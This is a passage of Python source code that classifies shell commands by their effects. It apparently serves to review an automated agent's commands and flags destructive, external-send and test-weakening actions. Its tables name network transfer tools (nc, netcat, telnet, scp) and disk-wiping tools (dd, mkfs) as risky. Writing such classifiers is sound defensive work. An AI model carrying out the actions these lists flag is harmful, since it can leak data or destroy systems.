    it; `destroy`, and a secrets engine disabled (every secret under its mount), are gone
    for good. What it acts on is the path or item after the subcommand words."""
    operands = _operands(args, _STORE_VALUE_FLAGS)
    lead = list(itertools.takewhile(
        lambda o: o in _STORE_READS | _STORE_DELETES | _STORE_GRANTS | _STORE_CHANGES
        | {"kv", "secrets", "policy", "token", "auth", "audit", "operator", "lease", "item",
           "vault", "document", "user", "group", "account", "connect", "service-account",
           "events-api", "plugin", "share"},
        operands[:4],
    ))  # fmt: skip
    words = set(lead)
    # a value given on the command line (`vault kv put secret/app password=…`) is no object
    objects = tuple(o for o in operands[len(lead) : len(lead) + 4] if "=" not in o)
    if words & _STORE_GRANTS or lead[:2] in (["policy", "write"], ["token", "create"]):
        return [Effect("grant", "external", reversible=False, what=text, objects=objects)]
    if tool == "op" and lead[:2] == ["item", "share"]:
        return [Effect("send", "external", reversible=False, what=text, objects=objects)]
    if words & _STORE_DELETES:
        everything = "destroy" in words or lead[:2] in (["secrets", "disable"], ["vault", "delete"])
        return [Effect("delete", "external", reversible=False, high_impact=everything,
                       what=text, objects=objects)]  # fmt: skip
    if words & _STORE_CHANGES:
        kind: EffectKind = "create" if words & {"create", "add"} else "modify"
        sealed = bool(words & {"seal", "step-down"})
        return [Effect(kind, "external", high_impact=sealed, what=text, objects=objects)]
    if words & _STORE_READS or lead == ["secrets"] or not operands:
        return [Effect("read", "external", what=text, objects=objects)]
    return [Effect("unknown", "external", what=text, objects=objects)]


#: openssl's subcommands that only inspect: a certificate, a key, a server's handshake.
_OPENSSL_READS = frozenset(
    ["x509", "req", "verify", "version", "ciphers", "list", "asn1parse", "crl", "pkey", "rsa",
     "ec", "s_client", "s_time", "speed", "dgst", "pkcs7", "pkcs12", "rand", "prime",
     "errstr", "ocsp", "storeutl", "base64", "enc"]
)  # fmt: skip


def _openssl(tool: str, args: Sequence[str], text: str) -> list[Effect]:
    """`openssl x509 -in cert.pem -noout -text` reads; whatever writes with `-out` (a key,
    a request, a converted certificate) writes that file, over one of the same name
    (`-out server.key` can be the server's key). `s_client` talks to the server named."""
    sub = next(iter(_operands(args)), "")
    out = _flag_value(args, ("-out", "-keyout"))
    if out:
        return [Effect("modify", what=text, objects=(out,))]
    if sub in ("s_client", "s_time", "ocsp"):
        return [Effect("read", "external", what=text)]
    if sub in _OPENSSL_READS or sub.startswith("gen") or not sub:
        # a key made without `-out` is printed, not kept
        return [Effect("read", what=text)]
    return [Effect("unknown", what=text)]


def _jupyter(tool: str, args: Sequence[str], text: str) -> list[Effect]:
    """`jupyter nbconvert --to html report.ipynb` writes the converted file beside the
    notebook (`--inplace`: over it; `--execute`: its cells run, the project's own code);
    the listings (`kernelspec list`, `--paths`) read."""
    operands = _operands(args, frozenset(["--to", "--output", "--output-dir", "--template"]))
    sub = operands[0] if operands else ""
    if sub == "nbconvert":
        notebooks = tuple(operands[1:9])
        if "--stdout" in args and "--execute" not in args:
            return [Effect("read", what=text, objects=notebooks)]
        inplace = "--inplace" in args
        effects = [Effect("modify" if inplace else "create", what=text, objects=notebooks,
                          action="notebook-inplace" if inplace else "")]  # fmt: skip
        if "--execute" in args:
            effects.append(Effect("execute", what=text, routine=True, objects=notebooks))
        return effects
    if not sub or operands[1:2] == ["list"] or sub in ("troubleshoot", "migrate-check"):
        return [Effect("read", what=text)]
    return [Effect("unknown", what=text)]


#: Ansible's modules that only gather: whether a host answers, its facts, a message.
_ANSIBLE_READS = frozenset(
    ["ping", "setup", "gather_facts", "debug", "stat", "slurp", "service_facts",
     "package_facts", "ansible.builtin.ping", "ansible.builtin.setup",
     "ansible.builtin.gather_facts", "ansible.builtin.debug", "ansible.builtin.stat"]
)  # fmt: skip


def _ansible(tool: str, args: Sequence[str], text: str) -> list[Effect]:
    """`ansible web -m ping` and `ansible-inventory --list` read the hosts; any other module
    run on them (`-m shell -a …`, `-m apt`) is a person's to check."""
    if tool == "ansible-lint" and set(args) & {"--fix", "--write"}:
        return [Effect("modify", what=text, routine=True, action="autofix")]
    if tool in ("ansible-inventory", "ansible-doc", "ansible-lint"):
        return [Effect("read", what=text)]
    if tool == "ansible-config":
        return (
            [Effect("read", what=text)]
            if set(args) & {"list", "dump", "view"}
            else [Effect("unknown", what=text)]
        )
    module = _flag_value(args, ("-m", "--module-name"))
    if tool == "ansible" and (module in _ANSIBLE_READS or "--list-hosts" in args):
        return [Effect("read", "external", what=text)]
    return [Effect("unknown", "external", what=text)]


def _site_builder(tool: str, args: Sequence[str], text: str) -> list[Effect]:
    """`mkdocs build`, `mkdocs serve`: the project's docs built or served here;
    `mkdocs gh-deploy` publishes them to the repository's pages site."""
    sub = next(iter(_operands(args)), "")
    if sub == "gh-deploy":
        return [Effect("send", "external", reversible=False, what=text, action="deploy")]
    if sub in ("build", "serve", ""):
        return [Effect("execute", what=text, routine=True)]
    return [Effect("unknown", what=text)]


def _buf(tool: str, args: Sequence[str], text: str) -> list[Effect]:
    """Buf, for protobuf: code generated from the project's schemas, the schemas linted or
    compared; `buf push` publishes a module to the registry."""
    sub = next(iter(_operands(args)), "")
    if sub == "push":
        return [Effect("send", "external", reversible=False, what=text, action="push")]
    if sub in ("lint", "breaking", "ls-files", "build", "--version") or (
        sub == "format" and not {"-w", "--write"} & set(args)
    ):
        return [Effect("read", what=text)]
    if sub in ("generate", "format"):
        return [Effect("modify", what=text, routine=True)]
    return [Effect("unknown", what=text)]


def _runs_manage_py(tool: str, args: Sequence[str]) -> bool:
    """`python manage.py …`: Django's command runner, judged by its subcommand."""
    return tool.startswith("python") and bool(args) and args[0].rsplit("/", 1)[-1] == "manage.py"


def _django(args: Sequence[str], text: str) -> list[Effect]:
    """`manage.py showmigrations` reads; `migrate` changes the schema; `flush` empties every
    table; `createsuperuser` gives someone full access; `test` runs the project's checks."""
    sub = next((a for a in args if not a.startswith("-")), "")
    checking = "--check" in args or "--dry-run" in args
    if sub in _words("django_read") or (sub == "makemigrations" and checking):
        return [Effect("read", what=text)]
    if sub == "migrate" and ("--plan" in args or "--check" in args):
        return [Effect("read", what=text)]  # the migrations it would apply, shown, not applied
    if sub == "test":
        return [Effect("execute", what=text, routine=True)]
    if sub in ("shell", "shell_plus", "dbshell"):
        # Python or SQL typed into the project's own models: `shell -c` is judged by its code
        # (a read only when every call in it reads); what is typed into an open shell is not
        # seen here
        code = _flag_value(args, ("-c", "--command"), ("--command",))
        if sub != "dbshell" and code is not None and reads_only(code):
            return [Effect("read", what=text)]
        return [Effect("unknown", what=text)]
    if sub == "flush":
        return [Effect("delete", reversible=False, high_impact=True, what=text)]
    if sub in ("createsuperuser", "changepassword"):
        return [Effect("grant", what=text)]
    if sub == "migrate" and "zero" in args:
        # every migration of an app undone: its tables dropped, with their rows
        return [Effect("delete", reversible=False, high_impact=True, what=text)]
    if sub == "migrate":
        # the project's own migrations applied, each with its way back (like `alembic upgrade`)
        return [Effect("modify", what=text)]
    if sub == "loaddata":
        # rows written over: loading them again does not bring back what they replaced
        return [Effect("modify", reversible=False, what=text)]
    if sub in ("makemigrations", "collectstatic", "squashmigrations"):
        return [Effect("modify", what=text)]
    return [Effect("execute", what=text)]


#: A web server told to read its configuration again (`nginx -s reload`, `apachectl graceful`).
_SERVER_RELOAD = frozenset(["reload", "reopen", "graceful", "restart"])


def _server_config(tool: str, args: Sequence[str], text: str) -> list[Effect]:
    """`nginx -t`, `apachectl configtest`, `sshd -t` test a configuration; `nginx -s
    reload`, `apachectl graceful` apply it; `-s stop`, `apachectl stop` stop the server."""
    flags = _flags(args)
    words = {a.lower() for a in args if not a.startswith("-")}
    if flags & {"t", "T", "v", "V", "h", "?"} or words & {"configtest", "status"}:
        return [Effect("read", what=text)]
    if words & {"stop", "quit", "graceful-stop"}:
        return [Effect("configure", reversible=False, high_impact=True, what=text)]
    if words & (_SERVER_RELOAD | {"start"}):
        return [Effect("configure", what=text, action="restart")]
    return [Effect("unknown", what=text)]


def _prisma(args: Sequence[str], text: str) -> list[Effect]:
    """Prisma's CLI: `migrate status`/`diff` and `validate` read; `migrate reset` and `db
    push --accept-data-loss` drop data; other migrations change the schema."""
    words = [a for a in args if not a.startswith("-")]
    sub = " ".join(words[:2])
    if words[:1] in (["validate"], ["version"]) or sub in ("migrate status", "migrate diff"):
        return [Effect("read", what=text)]
    if words[:1] in (["generate"], ["format"]):
        return [Effect("modify", what=text, routine=True)]
    if sub == "migrate reset" or (sub == "db push" and "--accept-data-loss" in args):
        return [Effect("delete", reversible=False, high_impact=True, what=text, action="reset")]
    if sub in ("migrate dev", "migrate deploy", "migrate resolve", "db push", "db pull", "db seed"):
        return [Effect("modify", what=text)]
    return [Effect("unknown", what=text)]


def _package_runner(tool: str, args: Sequence[str], text: str) -> list[Effect]:
    """`npx prisma migrate status`, `bunx tsc`: the command it runs, when the tables know
    it; a package they do not know is fetched and run, which nothing here can judge."""
    rest = [a for a in args if a not in ("--yes", "-y", "--no-install", "--")]
    if not rest or rest[0].startswith("-"):
        return [Effect("unknown", what=text)]
    name = rest[0].split("@", 1)[0] if not rest[0].startswith("@") else rest[0]
    known = name in _BY_TOOL or name in _words("routine") or name in _words("read")
    if not known or name in ("npx", "bunx"):
        return [Effect("unknown", what=text)]
    return _classify([name, *rest[1:]], elevated=False)


def _bundle(tool: str, args: Sequence[str], text: str) -> list[Effect]:
    """`bundle exec rspec` runs what follows it; `bundle install` the project's own gems."""
    if args[:1] == ["exec"] and len(args) > 1:
        return _classify(list(args[1:]), elevated=False)
    if not args or args[:1] in (["install"], ["check"]):
        return [Effect("execute", what=text, routine=True)]
    return _packages(tool, args, text)


def _migrations(args: Sequence[str], text: str) -> list[Effect]:
    """`alembic current` reads; `upgrade` changes the schema, `downgrade` undoes it (and
    drops what the undone migrations made: `downgrade base` drops everything)."""
    sub = next((a for a in args if not a.startswith("-")), "")
    if sub in ("current", "history", "heads", "branches", "show", "check"):
        return [Effect("read", what=text)]
    if sub in ("upgrade", "downgrade") and "--sql" in args:
        # offline mode: the migration's SQL printed, nothing run against the database
        return [Effect("read", what=text)]
    if sub == "downgrade":
        base = "base" in args
        return [Effect("delete", reversible=False, high_impact=base, what=text, action="rollback")]
    if sub in ("upgrade", "stamp", "merge", "revision"):
        return [Effect("modify", what=text)]
    return [Effect("unknown", what=text)]


#: Rails' and rake's database tasks, by what each does to the data.
_RAILS_WIPES = frozenset(
    ["db:drop", "db:reset", "db:purge", "db:schema:load", "db:structure:load",
     "db:migrate:reset", "db:truncate_all", "db:seed:replant", "db:drop:all", "db:test:purge"]
)  # fmt: skip
_RAILS_READS = frozenset(
    ["db:version", "db:migrate:status", "routes", "about", "stats", "notes", "-T", "--tasks",
     "db:abort_if_pending_migrations", "--version", "-v", "time:zones"]
)  # fmt: skip
_RAILS_CREATES = frozenset(["db:create", "db:setup", "db:prepare", "db:seed", "db:create:all"])


def _rails(tool: str, args: Sequence[str], text: str) -> list[Effect]:
    """`rails db:migrate` changes the schema; `db:rollback` undoes migrations (dropping
    what they made); `db:drop`, `db:reset`, `db:schema:load` lose every row; `db:setup`,
    `db:seed` create; `rails test` runs the project's checks. Each task is judged."""
    # `STEP=2`, `RAILS_ENV=test`: the task's settings, not tasks
    tasks = [a for a in args[:16] if "=" not in a and (not a.startswith("-") or a in _RAILS_READS)]
    out: list[Effect] = []
    for task in tasks or ["-T"]:
        name = task.split("[", 1)[0]
        if name in _RAILS_WIPES:
            out.append(Effect("delete", reversible=False, high_impact=True, what=text))
        elif name in ("db:rollback", "db:migrate:down", "db:migrate:redo"):
            out.append(Effect("delete", reversible=False, what=text, action="rollback"))
        elif name in _RAILS_READS:
            out.append(Effect("read", what=text))
        elif name in _RAILS_CREATES:
            out.append(Effect("create", what=text))
        elif name in ("db:migrate", "db:migrate:up", "assets:precompile", "generate", "g"):
            out.append(Effect("modify", what=text))
        elif name in ("test", "spec", "test:system", "t"):
            out.append(Effect("execute", what=text, routine=True))
            break  # what follows is the tests to run
        else:
            out.append(Effect("unknown", what=text))
    return out


def _sed(args: Sequence[str], flags: set[str], text: str) -> Effect:
    """`sed -i` edits its files; on a test file, dropping or defusing an assertion is the
    action `weaken-tests` (`_weakened`)."""
    if not flags & {"i", "--in-place"} and not any(a.startswith("-i") for a in args):
        return Effect("read", what=text)
    scripts = _flag_values(args, ("-e", "--expression"))
    operands = _operands(args, frozenset(["-e", "--expression", "-f", "--file"]))
    if not scripts and operands:
        scripts, operands = operands[:1], operands[1:]
    if sed_weakens_tests(scripts, operands):
        return Effect("modify", what=text, action="weaken-tests")
    insecure = sed_turns_off_checks(scripts)
    return Effect("modify", what=text, action="weaken-security" if insecure else "")


def _sort_or_uniq(tool: str, args: Sequence[str], text: str) -> list[Effect]:
    """`sort -o data.csv data.csv`, `uniq in.txt out.txt`: a file written, which a sort
    or a count to the screen only reads."""
    if tool == "sort":
        out = _flag_value(args, ("-o", "--output"), ("--output",)) or ""
    else:
        operands = _operands(args, frozenset(["-f", "-s", "-w", "--skip-fields"]))
        out = operands[1] if len(operands) > 1 else ""
    return [Effect("modify", what=text)] if out else [Effect("read", what=text)]


def _move(args: Sequence[str], text: str) -> list[Effect]:
    """`mv a b`: a rename, or with a destination past the project (`/tmp/`, `~/`, `../`)
    the files taken out of it; `-t DIR` names the destination first."""
    operands = _operands(args, frozenset(["-t", "--target-directory", "-S", "--suffix"]))
    target = _flag_value(args, ("-t", "--target-directory"), ("--target-directory",))
    dst = target or (operands[-1] if len(operands) >= 2 else "")
    if dst in _HARMLESS_TARGETS:
        # `mv notes.md /dev/null`: the file is gone
        return [Effect("delete", reversible=False, what=text)]
    leaves = bool(dst) and (beyond_project(dst) or bool(_SCRATCH.match(dst)))
    return [Effect("modify", what=text, moved_to=dst if leaves else "")]


#: Code formatters, and the flags by which each rewrites files in place (`rustfmt` does
#: unless told only to check).
_FORMATTERS: dict[str, frozenset[str]] = {
    "gofmt": frozenset(["-w"]),
    "goimports": frozenset(["-w"]),
    "clang-format": frozenset(["-i"]),
    "autopep8": frozenset(["-i", "--in-place"]),
    "yapf": frozenset(["-i", "--in-place"]),
    "shfmt": frozenset(["-w", "--write"]),
    "rustfmt": frozenset(),
}


def _formatter(tool: str, args: Sequence[str], text: str) -> list[Effect]:
    """`gofmt -w .` rewrites the project's files (routine work, a change to ask for);
    `gofmt -l .`, `rustfmt --check` only print what they would change."""
    flags = {a.split("=", 1)[0] for a in args if a.startswith("-")}
    writes = bool(flags & _FORMATTERS[tool]) or (tool == "rustfmt" and "--check" not in flags)
    if not writes:
        return [Effect("read", what=text)]
    return [Effect("modify", what=text, routine=True, action="format-in-place")]


def _simple(kind: EffectKind, **notes: Any) -> Callable[[str, Sequence[str], str], list[Effect]]:
    return lambda tool, args, text: [Effect(kind, what=text, **notes)]


_BY_TOOL: dict[str, Callable[[str, Sequence[str], str], list[Effect]]] = {
    **dict.fromkeys(("curl", "wget", "http", "httpie"), _curl),
    **dict.fromkeys(
        (
            "npm",
            "pnpm",
            "yarn",
            "bun",
            "pip",
            "pip3",
            "uv",
            "poetry",
            "gem",
            "twine",
            "flit",
            "hatch",
            "pipenv",
            "pdm",
            "rye",
        ),
        _packages,
    ),
    **dict.fromkeys(
        (
            "docker",
            "podman",
            "kubectl",
            "helm",
            "terraform",
            "pulumi",
            "aws",
            "gcloud",
            "az",
            "doctl",
            "gh",
            "gsutil",
            "bq",
        ),
        _cloud,
    ),
    **dict.fromkeys(_PAAS, _paas),
    **dict.fromkeys(("python", "python3", "node", "ruby", "perl", "php", "deno"), _interpreter),
    **dict.fromkeys(
        ("apt", "apt-get", "yum", "dnf", "brew", "pacman", "apk", "snap"),
        lambda tool, args, text: _system_packages(args, text),
    ),
    **dict.fromkeys(("dpkg", "rpm"), _package_database),
    **dict.fromkeys(
        ("tar", "zip", "unzip", "gzip", "gunzip", "bzip2", "bunzip2", "xz", "unxz", "zstd"),
        _archive,
    ),
    "ssh-keygen": _ssh_keygen,
    "certbot": _certbot,
    **dict.fromkeys(("vault", "op"), _secret_store),
    "openssl": _openssl,
    "mkdocs": _site_builder,
    # a Python process's stacks sampled (`py-spy dump --pid 42`); `record` writes a profile
    "py-spy": lambda tool, args, text: [
        Effect("create" if "record" in args[:1] else "read", what=text)
    ],
    "buf": _buf,
    "jupyter": _jupyter,
    **dict.fromkeys(
        ("ansible", "ansible-inventory", "ansible-doc", "ansible-lint", "ansible-config"), _ansible
    ),
    **dict.fromkeys(("conda", "mamba", "micromamba"), _conda),
    **dict.fromkeys(_FORMATTERS, _formatter),
    "apt-cache": _simple("read"),
    **dict.fromkeys(
        ("dd", "mkfs", "fdisk", "parted", "wipefs"),
        _simple("delete", reversible=False, high_impact=True),
    ),
    **dict.fromkeys(
        ("scp", "sftp", "ftp", "nc", "ncat", "netcat", "telnet"),
        _simple("send", reach="external", reversible=False),
    ),
    "mv": lambda tool, args, text: _move(args, text),
    **dict.fromkeys(("sort", "uniq"), _sort_or_uniq),
    **dict.fromkeys(("cp", "ln", "install", "tee", "truncate"), _simple("modify")),
    **dict.fromkeys(("touch", "mkdir", "mktemp"), _simple("create")),
    **dict.fromkeys(
        ("crontab", "export", "alias", "unset", "ulimit", "sysctl", "iptables", "ufw", "history"),
        _settings,
    ),
    **dict.fromkeys(
        (
            "psql",
            "mysql",
            "mariadb",
            "sqlite3",
            "duckdb",
            "clickhouse-client",
            "mongosh",
            "mongo",
            "redis-cli",
        ),
        _database,
    ),
    **dict.fromkeys(
        ("pg_dump", "pg_dumpall", "mysqldump", "mongodump", "sqlite3_analyzer"), _simple("read")
    ),
    "alembic": lambda tool, args, text: _migrations(args, text),
    "prisma": lambda tool, args, text: _prisma(args, text),
    **dict.fromkeys(("rails", "rake"), _rails),
    **dict.fromkeys(("nginx", "apachectl", "apache2ctl", "httpd", "sshd"), _server_config),
    **dict.fromkeys(("npx", "bunx"), _package_runner),
    "bundle": _bundle,
    "git": lambda tool, args, text: _git(args, text),
    "source": _simple("execute"),
    # PostgreSQL's wrappers: a database made, or dropped with all it holds
    "createdb": _simple("create"),
    "dropdb": _simple("delete", reversible=False, high_impact=True),
    ".": _simple("execute"),
    # a key put in the host's authorized_keys: whoever holds it may log in there
    "ssh-copy-id": _simple("grant", reach="external", reversible=False),
    "ssh-add": _ssh_add,
}


_CLOUD_WORDS = frozenset(
    {"cp", "sync", "mv", "restart", "s3", "s3api", "status", "undo",
     # GitHub's CLI: `gh pr create --base main` acts on main, not on "pr create"
     "pr", "issue", "repo", "release", "run", "workflow", "create", "merge", "edit", "close",
     "comment", "review", "checkout", "view", "list"}
)  # fmt: skip


_UFW_RULES = frozenset(
    [
        "allow",
        "deny",
        "reject",
        "limit",
        "delete",
        "insert",
        "route",
        "proto",
        "port",
        "to",
        "from",
        "any",
        "in",
        "out",
        "on",
    ]
)
_PORT_SPEC = re.compile(r"\d{1,5}(?::\d{1,5})?/(?:tcp|udp)", re.IGNORECASE)


#: Flags whose value is a setting, not what the command acts on (`ssh-keygen -t ed25519`).
_KUBE_SCOPE_FLAGS = frozenset(
    ["-n", "--namespace", "--context", "--kube-context", "--kubeconfig", "--cluster", "-o",
     "--output"]
)  # fmt: skip
_OBJECT_VALUE_FLAGS = {
    "ssh-keygen": frozenset(["-t", "-N", "-C", "-b", "-P", "-a", "-O", "-Z"]),
    "tar": frozenset(["-C", "--directory"]),
    # a commit's message, author and date are what it says, not what it acts on
    "git": frozenset(["-m", "--message", "--author", "--date", "-F", "--file"]),
    "gcloud": frozenset(
        [
            "--zone",
            "--region",
            "--project",
            "--format",
            "--account",
            "--configuration",
            "--filter",
            "--limit",
        ]
    ),
    # where a command runs (its namespace, its cluster), not what it acts on
    "kubectl": _KUBE_SCOPE_FLAGS,
    "helm": _KUBE_SCOPE_FLAGS,
    "az": frozenset(
        [
            "-g",
            "--resource-group",
            "--subscription",
            "--output",
            "-o",
            "--query",
            "--location",
            "-l",
        ]
    ),
}
#: A file mode as chmod takes it: octal, or symbolic (`u+x`, `go-rwx`, `a=r,u+w`).
_MODE = re.compile(r"[0-7]{3,4}|(?:[ugoa]*[-+=][rwxXst]*)(?:,[ugoa]*[-+=][rwxXst]*)*")


def command_objects(argv: Sequence[str]) -> tuple[str, ...]:
    """What a simple command acts on: its operands, less a subcommand and conventional names."""
    if not argv:
        return ()
    tool = argv[0].rsplit("/", 1)[-1]
    operands = _operands(argv[1:], _OBJECT_VALUE_FLAGS.get(tool, frozenset()))
    if tool == "tar" and operands and len(argv) > 1 and operands[0] == argv[1]:
        operands = operands[1:] if re.fullmatch(r"[A-Za-z]+", operands[0]) else operands
    if tool.startswith("python") and argv[1:2] == ["-m"]:
        operands = operands[1:]  # `python -m venv .venv`: the module runs, on `.venv`
    if tool == "service":
        operands = operands[:1]  # `service nginx reload`: the service, then its verb
    elif tool in _words("subcommand_tools"):
        # `aws s3 cp`, `kubectl rollout restart`: the command's own words up front
        verbs = _words("cloud_read") | _words("cloud_configure") | _words("cloud_delete")
        lead = 1
        at: int | None = None
        if tool in ("gcloud", "az", "doctl"):
            # `gcloud compute instances stop test-vm`: groups, then the verb, then objects
            acts = verbs | {"stop", "start", "reboot", "restart", "reset", "suspend", "resume",
                            "create", "update", "ssh", "deallocate"}  # fmt: skip
            at = next((n for n, o in enumerate(operands[:5]) if o in acts), None)
            lead = at + 1 if at is not None else 1
        # after such a verb, only objects (`az group delete rg-prod`: a name, though it is
        # written like an operation)
        while (
            at is None
            and lead < min(3, len(operands))
            and (
                operands[lead] in verbs
                or operands[lead] in _CLOUD_WORDS
                # `aws ec2 stop-instances`: an operation, named by its verb and noun
                or (tool in ("aws", "az", "gcloud") and re.fullmatch(_OPERATION, operands[lead]))
            )
        ):
            lead += 1
        operands = operands[lead:]
    elif _runs_manage_py(tool, operands):
        operands = operands[2:]  # `manage.py migrate app 0041` acts on app, 0041
    elif tool == "chmod" and operands and _MODE.fullmatch(operands[0]):
        operands = operands[1:]  # `chmod 600 key`: the mode is what is set, on the key
    elif tool == "ufw":
        # `ufw allow 8080/tcp` acts on port 8080; `allow` is what it does to it
        operands = [
            o.split("/", 1)[0] if _PORT_SPEC.fullmatch(o) else o
            for o in operands
            if o.lower() not in _UFW_RULES
        ]
    implicit = _words("implicit_operands")
    return tuple(o for o in operands if o.lower() not in implicit)[:32]


def classify_command(argv: Sequence[str], *, elevated: bool = False) -> list[Effect]:
    """What one simple command does (no pipes or lists: `shell_effects` splits those).
    `elevated` (under `sudo`): every change it makes is high-impact."""
    if not argv:
        return []
    objects = command_objects(argv)
    if _dry_run(argv):
        return [Effect("read", what=" ".join(argv)[:200], objects=objects)]
    action = _action(argv)
    return [
        replace(
            e,
            objects=e.objects or objects,
            action=e.action or (action if e.kind != "read" else ""),
        )
        for e in _classify(argv, elevated=elevated)
    ]


#: Tools whose dry run only shows what they would do, by the flag that asks for it (a
#: script's own `--dry-run` is the script's to honour, so it is not among them).
_DRY_RUN = {
    **dict.fromkeys(
        ("apt", "apt-get"), frozenset(["--dry-run", "--simulate", "--just-print", "s"])
    ),
    **dict.fromkeys(("dnf", "yum"), frozenset(["--assumeno"])),
    **dict.fromkeys(
        ("rsync", "npm", "pnpm", "pip", "pip3", "helm", "kubectl", "cargo", "poetry", "brew",
         "uv"),
        frozenset(["--dry-run"]),
    ),
    "rsync": frozenset(["--dry-run", "n"]),
    "make": frozenset(["--dry-run", "--just-print", "--recon", "n"]),
    "ansible-playbook": frozenset(["--check", "C"]),
}  # fmt: skip


def _dry_run(argv: Sequence[str]) -> bool:
    """`apt autoremove --dry-run`, `rsync -n`, `kubectl apply --dry-run=client`: what
    would be done, shown; `--dry-run=none` is no dry run."""
    tool = argv[0].rsplit("/", 1)[-1]
    asks = _DRY_RUN.get(tool)
    if asks is None:
        return False
    for a in argv[1:]:
        if a == "--":
            break
        if a.startswith("--dry-run="):
            return a.split("=", 1)[1].lower() not in ("none", "false", "0")
    return bool(_flags(argv[1:]) & asks)


_TARGETED = frozenset(["make", "just", "rake", "invoke"])
_SCRIPTS = frozenset(["npm", "pnpm", "yarn", "bun"])


def _action(argv: Sequence[str]) -> str:
    """The action a command names, when `[actions]` holds it: a git, docker or kubectl
    subcommand (`git commit`, `docker restart`), a make target (`make clean`), an npm
    script (`npm run deploy`)."""
    tool = argv[0].rsplit("/", 1)[-1]
    if tool in _TARGETED:
        ops = _operands(argv[1:])
    elif tool in _SCRIPTS or tool in _words("subcommand_tools"):
        ops = [a for a in argv[1:] if not a.startswith("-")]
        if tool in _SCRIPTS and ops[:1] in (["run"], ["run-script"]):
            ops = ops[1:]
        if tool in _SCRIPTS:
            # the subcommand or the script, not a flag's value (`npm publish --access public`)
            ops = ops[:1]
    else:
        return ""
    if (
        tool == "git"
        and ops[:1] == ["merge"]
        and re.match(r"(?:origin|upstream)/", ops[1:2][0] if ops[1:] else "")
    ):
        # `git merge origin/main` after a fetch is what `git pull` does: asked for as a pull
        return "pull"
    # `git commit`; `gh pr merge`, `kubectl rollout restart`: a noun, then the action
    return next((op.lower() for op in ops[:2] if op.lower() in table().actions), "")


#: What `systemctl` and `service` do that only reads (`systemctl status nginx`).
_SERVICE_READ = frozenset(
    ["status", "is-active", "is-enabled", "is-failed", "list-units", "list-unit-files",
     "list-timers", "list-sockets", "show", "cat", "list-dependencies"]
)  # fmt: skip


_SERVICE_RESTART = frozenset(
    ["restart", "reload", "try-restart", "reload-or-restart", "try-reload-or-restart",
     "condrestart", "force-reload"]
)  # fmt: skip


def _service_verb(tool: str, args: Sequence[str]) -> str:
    """What `systemctl VERB unit` or `service unit VERB` is asked to do."""
    words = [a for a in args if not a.startswith("-")]
    return words[0] if tool == "systemctl" and words else (words[1] if len(words) > 1 else "")


def _service_reads(tool: str, args: Sequence[str]) -> bool:
    """`systemctl status nginx`, `service nginx status`: the verb is a reading one."""
    return _service_verb(tool, args) in _SERVICE_READ


#: Flags that pick pods by something other than their names.
_ANY_POD_FLAGS = frozenset(
    ["--all", "-A", "--all-namespaces", "-l", "--selector", "--field-selector", "-f", "--filename"]
)
#: A pod a deployment's replica set made (`worker-5c6b7d9f8-q9z8r`): deleted, it is replaced.
_REPLICA_POD = re.compile(r"^[a-z0-9]([a-z0-9-]*[a-z0-9])?-[a-z0-9]{6,10}-[a-z0-9]{5}$")


def _replaced_pods(args: Sequence[str]) -> bool:
    """`kubectl delete pod NAME…` naming only pods a deployment replaces (not `--all`, not
    a label selector, not a bare pod nothing brings back)."""
    operands = _operands(args, _KUBE_SCOPE_FLAGS)
    if operands[:1] != ["delete"] or len(operands) < 3 or operands[1] not in ("pod", "pods", "po"):
        return False
    if any(a.split("=", 1)[0] in _ANY_POD_FLAGS for a in args[:64]):
        return False
    return all(_REPLICA_POD.match(name) for name in operands[2:10])


def _service_restarts(tool: str, args: Sequence[str]) -> bool:
    """`systemctl restart nginx`, `service nginx reload`: the service back as it was."""
    return _service_verb(tool, args) in _SERVICE_RESTART


def _mild_under_sudo(tool: str, args: Sequence[str]) -> bool:
    """What `sudo` does not make high-impact: the package manager's download cache
    cleaned; a service restarted or reloaded (which service is the question, and the
    service is the machine's: `Effect.system` asks for its name in the user's words)."""
    words = [a for a in args if not a.startswith("-")]
    if tool in ("systemctl", "service"):
        return _service_restarts(tool, args)
    if tool in ("nginx", "apachectl", "apache2ctl", "httpd"):
        # `nginx -s reload`, `apachectl graceful`: the server's configuration read again
        return bool({w.lower() for w in words} & _SERVER_RELOAD)
    return tool in ("apt", "apt-get", "dnf", "yum") and words[:1] in (["clean"], ["autoclean"])


#: A copy's remote end (`host:path`, `user@host:path`, `rsync://host/path`); not a drive.
_REMOTE_END = re.compile(r"^(?:[\w.-]+@)?[\w.-]{2,}:|^rsync://")


#: scp's and rsync's flags that take a value (`-P 2222`, `-e "ssh -p 2222"`).
_COPY_VALUE_FLAGS = frozenset(["-e", "-P", "-i", "-o", "-F", "-l", "-c"])


def _downloads(args: Sequence[str]) -> bool:
    """A copy whose sources are all on another machine and whose destination is here."""
    operands = _operands(args, _COPY_VALUE_FLAGS)
    if len(operands) < 2:
        return False
    *sources, destination = operands
    return not _REMOTE_END.match(destination) and all(_REMOTE_END.match(s) for s in sources)


def _classify(argv: Sequence[str], *, elevated: bool) -> list[Effect]:
    text = " ".join(argv)[:200]
    tool = argv[0].rsplit("/", 1)[-1]
    args = list(argv[1:])
    flags = _flags(args)
    effects: list[Effect]
    if args and args[-1] in ("--help", "--version") and tool not in _words("shells"):
        # `python -m cli --help`, `terraform apply --help`: the usage text, nothing run
        effects = [Effect("read", what=text)]
    elif tool in ("rm", "rmdir", "shred", "unlink"):
        effects = _remove(tool, args, text, elevated)
    elif tool == "find":
        if "-delete" in args or {"rm", "shred"} & set(args):
            # `find . -name '*.pyc' -delete`: what goes is what the pattern picks, not `.`
            # ...under the folders it starts from: `find / …` reaches every file there is
            picked = tuple(_flag_values(args, ("-name", "-iname")))
            starts = list(itertools.takewhile(lambda a: not a.startswith(("-", "(", "!")), args))
            roots = tuple(r for r in starts[:8] if r.rstrip("/") not in ("", "."))
            broad = any(_BROAD.match(r) for r in roots) or "/" in starts
            effects = [
                Effect("delete", reversible=False, high_impact=broad, what=text,
                       objects=(*roots, *picked)[:8])
            ]  # fmt: skip
        else:
            runs = "-exec" in args or "-execdir" in args
            effects = [Effect("execute" if runs else "read", what=text)]
    elif tool == "sed":
        effects = [_sed(args, flags, text)]
    elif tool in ("awk", "gawk"):
        effects = [Effect("execute" if "system" in text else "read", what=text)]
    elif tool in ("chmod", "chown", "chgrp", "setfacl"):
        recursive = bool(flags & {"R", "--recursive"})
        broad = recursive and any(_BROAD.match(o) for o in _operands(args))
        opens = any(re.fullmatch(r"[0-7]*[2367]|[ugoa]*[ao][+=]\w*w\w*|.*\+s", a) for a in args)
        if tool == "chmod" and not recursive and not opens and not broad:
